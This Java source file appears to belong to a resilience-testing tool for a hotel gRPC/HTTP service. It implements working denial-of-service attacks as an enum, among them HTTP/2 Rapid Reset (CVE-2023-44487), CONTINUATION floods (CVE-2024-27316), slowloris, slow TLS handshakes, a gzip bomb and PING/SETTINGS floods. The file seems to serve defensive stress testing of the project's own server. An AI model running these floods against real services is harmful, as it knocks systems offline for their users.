package com.billshotel.flood.attack;

import com.billshotel.flood.attack.Frames.Header;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.util.EnumSet;
import java.util.Locale;
import java.util.Set;
import java.util.concurrent.ThreadLocalRandom;
import java.util.zip.GZIPOutputStream;

/** Attacks that exhaust memory, processor time, connections or threads. */
public enum Attack {
    /** Nothing, for comparison. */
    NONE(EnumSet.allOf(Protocol.class)) {
        @Override
        public void start(Attacker attacker) {
            // The normal client is alone.
        }
    },

    /** On each of 300 connections a request that is too large, then as many of 60 kB as it takes to reach 1 MB. */
    HALF_SENT(EnumSet.of(Protocol.GRPC)) {
        @Override
        public void start(Attacker attacker) {
            attacker.inParallel(300, connection -> {
                Frames.Header[] none = {};
                attacker.write(connection, new Frames().preface().toBytes());
                attacker.write(
                        connection,
                        new Frames()
                                .call(1, GET_HOTEL, Frames.NONE, none)
                                .partOfMessage(1, 1 << 20, 60_000)
                                .toBytes());
                for (int stream = 3; stream < 2 * 17; stream += 2) {
                    attacker.write(
                            connection,
                            new Frames()
                                    .call(stream, GET_HOTEL, Frames.NONE)
                                    .partOfMessage(stream, 60_000, 59_999)
                                    .toBytes());
                }
                untilClosed(connection);
            });
        }
    },

    /** The same in many tiny pieces, each of which may keep a whole read buffer in memory. */
    CRUMBS(EnumSet.of(Protocol.GRPC)) {
        @Override
        public void start(Attacker attacker) {
            attacker.inParallel(50, connection -> {
                attacker.write(connection, new Frames().preface().toBytes());
                byte[] noise = new byte[Frames.MAX_PAYLOAD];
                for (int stream = 1; attacker.isRunning(); stream += 2) {
                    Frames frames = new Frames().call(stream, GET_HOTEL, Frames.NONE);
                    frames.partOfMessage(stream, 60_000, 1);
                    for (int i = 0; i < 50; i++) {
                        frames.frame(Frames.DATA, Frames.NONE, stream, new byte[1]);
                        frames.frame(UNKNOWN_TYPE, Frames.NONE, 0, noise);
                    }
                    attacker.write(connection, frames.toBytes());
                }
            });
        }
    },

    /** Whole requests, each cancelled at once (CVE-2023-44487), on 4 connections. */
    RAPID_RESET(EnumSet.of(Protocol.GRPC)) {
        @Override
        public void start(Attacker attacker) {
            attacker.inParallel(
                    4,
                    connection -> streams(
                            attacker, connection, (frames, stream) -> frames.call(stream, GET_HOTEL, Frames.NONE)
                                    .message(stream, Frames.END_STREAM, false, new byte[0])
                                    .reset(stream)));
        }
    },

    /** Headers without a request, each cancelled at once, on 4 connections. */
    HEADERS_AND_RESET(EnumSet.of(Protocol.GRPC)) {
        @Override
        public void start(Attacker attacker) {
            attacker.inParallel(
                    4,
                    connection -> streams(
                            attacker, connection, (frames, stream) -> frames.call(stream, GET_HOTEL, Frames.NONE)
                                    .reset(stream)));
        }
    },

    /** Calls with 7.5 KB of headers that never send a request, on 4 connections. */
    OPEN_STREAMS(EnumSet.of(Protocol.GRPC)) {
        @Override
        public void start(Attacker attacker) {
            Header large = new Header("x-large", "x".repeat(7_500));
            attacker.inParallel(
                    4,
                    connection -> streams(
                            attacker,
                            connection,
                            (frames, stream) -> frames.call(stream, GET_HOTEL, Frames.NONE, large)));
        }
    },

    /** Health watches, as many as the server allows, on 8 connections. */
    WATCHES(EnumSet.of(Protocol.GRPC)) {
        @Override
        public void start(Attacker attacker) {
            attacker.inParallel(8, connection -> {
                attacker.discardAnswers(connection);
                streams(attacker, connection, (frames, stream) -> frames.call(
                                stream, "/grpc.health.v1.Health/Watch", Frames.NONE)
                        .message(stream, Frames.END_STREAM, false, new byte[0]));
            });
        }
    },

    /** A header block that never ends (CVE-2024-27316), on 4 connections. */
    CONTINUATIONS(EnumSet.of(Protocol.GRPC)) {
        @Override
        public void start(Attacker attacker) {
            attacker.inParallel(4, connection -> {
                attacker.write(
                        connection,
                        new Frames()
                                .preface()
                                .frame(Frames.HEADERS, Frames.NONE, 1, Frames.headers(GET_HOTEL))
                                .toBytes());
                byte[] more = repeated(Frames.CONTINUATION, 1, new byte[0]);
                while (attacker.isRunning()) {
                    attacker.write(connection, more);
                }
            });
        }
    },

    /** PINGs on 4 connections that never read the answers. */
    PINGS(EnumSet.of(Protocol.GRPC)) {
        @Override
        public void start(Attacker attacker) {
            control(attacker, repeated(Frames.PING, 0, new byte[8]));
        }
    },

    /** SETTINGS on 4 connections that never read the acknowledgements. */
    SETTINGS(EnumSet.of(Protocol.GRPC)) {
        @Override
        public void start(Attacker attacker) {
            control(attacker, repeated(Frames.SETTINGS, 0, new byte[] {0, 4, 0, 1, 0, 0}));
        }
    },

    /** Requests of 10 KB that decompress to 10 MB, on 4 connections. */
    GZIP_BOMB(EnumSet.of(Protocol.GRPC)) {
        @Override
        public void start(Attacker attacker) {
            byte[] bomb = compressed(new byte[10_000_000]);
            Header gzip = new Header("grpc-encoding", "gzip");
            attacker.inParallel(4, connection -> {
                attacker.discardAnswers(connection);
                streams(attacker, connection, (frames, stream) -> frames.call(stream, GET_HOTEL, Frames.NONE, gzip)
                        .message(stream, Frames.END_STREAM, true, bomb));
            });
        }
    },

    /** Random bytes instead of TLS, or of HTTP, on 8 connections. */
    GARBAGE(EnumSet.allOf(Protocol.class)) {
        @Override
        public void start(Attacker attacker) {
            attacker.inParallel(8, connection -> {
                byte[] garbage = new byte[4_096];
                ThreadLocalRandom.current().nextBytes(garbage);
                System.arraycopy(CLIENT_HELLO, 0, garbage, 0, CLIENT_HELLO.length);
                attacker.write(connection, garbage);
                untilClosed(connection);
            });
        }
    },

    /** TLS handshakes on 300 connections, a byte every 250 ms. */
    SLOW_HANDSHAKES(EnumSet.of(Protocol.TLS)) {
        @Override
        public void start(Attacker attacker) {
            attacker.hold(300, CLIENT_HELLO, new byte[1]);
        }
    },

    /** The HTTP/2 preface on 300 connections, a byte every 250 ms. */
    SLOW_PREFACE(EnumSet.of(Protocol.GRPC)) {
        @Override
        public void start(Attacker attacker) {
            attacker.inParallel(300, connection -> {
                for (byte next : new Frames().preface().toBytes()) {
                    attacker.write(connection, new byte[] {next});
                    Thread.sleep(1_000);
                }
                untilClosed(connection);
            });
        }
    },

    /** HTTP requests on 300 connections, a few bytes of a header every 250 ms (slowloris). */
    SLOWLORIS(EnumSet.of(Protocol.HTTP)) {
        @Override
        public void start(Attacker attacker) {
            attacker.hold(300, ascii("GET /metrics HTTP/1.1\r\nHost: localhost\r\n"), ascii("x: y\r\n"));
        }
    },

    /** 10,000 connections that send nothing. */
    IDLE_CONNECTIONS(EnumSet.of(Protocol.GRPC, Protocol.HTTP)) {
        @Override
        public void start(Attacker attacker) {
            attacker.hold(10_000, new byte[0], new byte[0]);
        }
    };

    private static final String GET_HOTEL = "/hotel.HotelService/GetHotel";
    private static final int UNKNOWN_TYPE = 0x77;
    private static final int STREAMS_PER_WRITE = 50;

    /** The start of a TLS 1.2 record that holds a ClientHello of 512 bytes. */
    private static final byte[] CLIENT_HELLO = {0x16, 3, 1, 2, 0, 1, 0, 1, (byte) 0xfc, 3, 3};

    private final Set<Protocol> protocols;

    Attack(Set<Protocol> protocols) {
        this.protocols = protocols;
    }

    /** Whether it makes sense against this protocol. */
    public boolean suits(Protocol protocol) {
        return protocols.contains(protocol);
    }

    /** Starts the attack, which runs until the attacker is closed. */
    public abstract void start(Attacker attacker);

    @Override
    public String toString() {
        return name().toLowerCase(Locale.ROOT).replace('_', '-');
    }

    @FunctionalInterface
    private interface PerStream {
        void write(Frames frames, int stream);
    }

    /** Opens one stream after the other until the connection ends. */
    private static void streams(Attacker attacker, SocketChannel connection, PerStream each) throws IOException {
        attacker.write(connection, new Frames().preface().toBytes());
        for (int stream = 1; attacker.isRunning(); ) {
            Frames frames = new Frames();
            for (int i = 0; i < STREAMS_PER_WRITE; i++, stream += 2) {
                each.write(frames, stream);
            }
            attacker.write(connection, frames.toBytes());
        }
    }

    private static void control(Attacker attacker, byte[] frames) {
        attacker.inParallel(4, connection -> {
            attacker.write(connection, new Frames().preface().toBytes());
            while (attacker.isRunning()) {
                attacker.write(connection, frames);
            }
        });
    }

    private static byte[] repeated(int type, int stream, byte[] payload) {
        Frames frames = new Frames();
        for (int i = 0; i < STREAMS_PER_WRITE; i++) {
            frames.frame(type, Frames.NONE, stream, payload);
        }
        return frames.toBytes();
    }

    private static void untilClosed(SocketChannel connection) throws IOException {
        java.nio.ByteBuffer bytes = java.nio.ByteBuffer.allocate(1_024);
        while (connection.read(bytes.clear()) >= 0) {
            // the answers do not matter
        }
    }

    private static byte[] compressed(byte[] content) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (GZIPOutputStream gzip = new GZIPOutputStream(bytes)) {
            gzip.write(content);
        } catch (IOException impossible) {
            throw new UncheckedIOException(impossible);
        }
        return bytes.toByteArray();
    }

    private static byte[] ascii(String text) {
        return text.getBytes(StandardCharsets.US_ASCII);
    }
}
